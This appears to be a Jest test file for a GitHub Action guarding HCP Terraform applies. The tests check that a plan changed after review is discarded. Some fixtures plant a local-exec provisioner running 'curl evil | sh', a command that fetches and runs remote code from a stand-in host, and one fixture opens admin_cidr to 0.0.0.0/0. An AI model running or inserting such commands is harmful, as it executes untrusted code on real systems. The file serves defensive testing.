import { expect, test } from '@jest/globals'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve, type RunScript } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { annotated, runStep } from '../on-a-runner.ts'
import { change, planWith, refused } from '../plans.ts'

const inputs = { operation: 'apply', 'apply-only-if': 'reviewed' }
type Fault = Parameters<Awaited<ReturnType<typeof serve>>['faults']['set']>[0]
const WHOLE = 'GET /plans/:id/json-output'
/** What the API redirects to, without the token: it may read the plan. */
const STORAGE = 'GET /_archivist/v1/plan-json/:secret'
const BUILT_IN = 'terraform.io/builtin/terraform'

/** A plan of a resource whose provisioner runs a command, which only the whole plan shows. */
function planRunning(command: string, more: object = {}) {
  const named = { mode: 'managed', type: 'terraform_data', name: 'x' }
  const created = { ...change('terraform_data.x', 'create', { input: 'a' }), ...named, provider_name: BUILT_IN }
  const block = {
    address: 'terraform_data.x',
    ...named,
    provider_config_key: 'terraform',
    expressions: { input: { constant_value: 'a' } },
    provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }],
    schema_version: 0
  }
  return planWith([created], {
    configuration: {
      provider_config: { terraform: { name: 'terraform', full_name: BUILT_IN } },
      root_module: { resources: [block], ...more }
    }
  })
}

function nested(levels: number): unknown {
  let value: unknown = 'x'
  for (let level = 0; level < levels; level++) value = [value]
  return value
}

/** Reports one plan, merges its pull request, and applies what is planned then, where reading whole plans meets a fault. */
async function reviewThenApply(reviewed: RunScript, planned: RunScript, fault?: Fault) {
  await using hcp = await serve({ script: reviewed })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
  github.merge(pull)
  hcp.script(planned)
  if (fault !== undefined) hcp.faults.set(fault)
  return await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
}

test.each<
  [string, object, { readonly status: number; readonly body?: string; readonly at?: string } | undefined, RegExp]
>([
  ['is nested too deep to be read', { variables: { d: { default: nested(1_000) } } }, undefined, /levels deep/],
  ['fails at the service', {}, { status: 502 }, /502/],
  ['does not exist yet', {}, { status: 204 }, /204/],
  ['a proxy refuses with a page', {}, { status: 403, body: '<html>Blocked</html>' }, /403 is not from the API/],
  ['is said to be absent by a proxy', {}, { status: 404, body: '' }, /404 is not from the API/],
  ['storage refuses', {}, { at: STORAGE, status: 403, body: '<Error><Code>AccessDenied</Code></Error>' }, /403 is not/],
  ['storage does not have', {}, { at: STORAGE, ...refused() }, /404 is not from the API/]
])(
  'a whole plan that %s leads to no comparison of less',
  async (_name, more, fault, why) => {
    const { at = WHOLE, ...said } = fault ?? {}
    const answer = fault && ({ on: at, do: { kind: 'answer', status: 500, ...said }, times: 1_000 } as const)
    const step = await reviewThenApply(planRunning('echo good', more), planRunning('curl evil | sh', more), answer)
    expect([step.conclusion, step.outputs['run-status']]).toEqual(['failure', 'discarded'])
    expect(annotated(step, 'error')[0]).toMatch(/The action can't compare the values of the plan/)
    expect(annotated(step, 'error')[0]).toMatch(why)
    expect(annotated(step, 'error')[0]).not.toContain('role Admin')
  },
  240_000
)

test('where the token may not read it, the redacted one is compared', async () => {
  const denied = { on: WHOLE, do: refused(), times: 1_000 } as const
  const step = await reviewThenApply(planRunning('echo good'), planRunning('echo good'), denied)
  expect(step.outputs['run-status']).toBe('applied')
  expect(annotated(step, 'notice')).toEqual([expect.stringContaining('role Admin')])
})

test('where the redacted one is compared, the log of each run is held against it', async () => {
  const denied = { on: WHOLE, do: refused(), times: 1_000 } as const
  const summary = { '@message': 'Plan: 1 to add', type: 'change_summary', changes: { add: 1, purge: 1 } }
  const good = planRunning('echo good')
  const more = { plan: { ...good.plan, log: `${JSON.stringify(summary)}\n` }, apply: {} }
  const step = await reviewThenApply(good, more, denied)
  expect(step.outputs['run-status']).toBe('discarded')
  expect(annotated(step, 'error')[0]).toContain('The log counts "purge"')
})

const FORGOTTEN = '# b.evil will no longer be managed by Terraform, but will not be destroyed'
const OUTPUT = 'Changes to Outputs: + admin_cidr'

test.each([
  ['resource', ` ${FORGOTTEN}\nPlan: 1 to add, 0 to change, 0 to destroy.\n`, FORGOTTEN],
  ['output', 'Changes to Outputs:\n  + admin_cidr = "0.0.0.0/0"\n', OUTPUT]
])(
  'where the redacted one is compared, it must list each %s that the log of the run to apply names',
  async (_name, log, said) => {
    const denied = { on: WHOLE, do: refused(), times: 1_000 } as const
    const good = planRunning('echo good')
    const step = await reviewThenApply(good, { plan: { ...good.plan, log }, apply: {} }, denied)
    expect(step.outputs['run-status']).toBe('discarded')
    expect(annotated(step, 'error')[0]).toContain(`The log says "${said}", which the plan as JSON does not list`)
  }
)

test.each([
  ['of the reviewed run', 1],
  ['of the run to apply', 2]
])('where the token may read one of the whole plans, the one %s must be read as well', async (_name, nth) => {
  const denied = { on: WHOLE, do: refused(), nth } as const
  const step = await reviewThenApply(planRunning('echo good'), planRunning('curl evil | sh'), denied)
  expect(step.outputs['run-status']).toBe('discarded')
  expect(annotated(step, 'error')[0]).toContain('404')
})
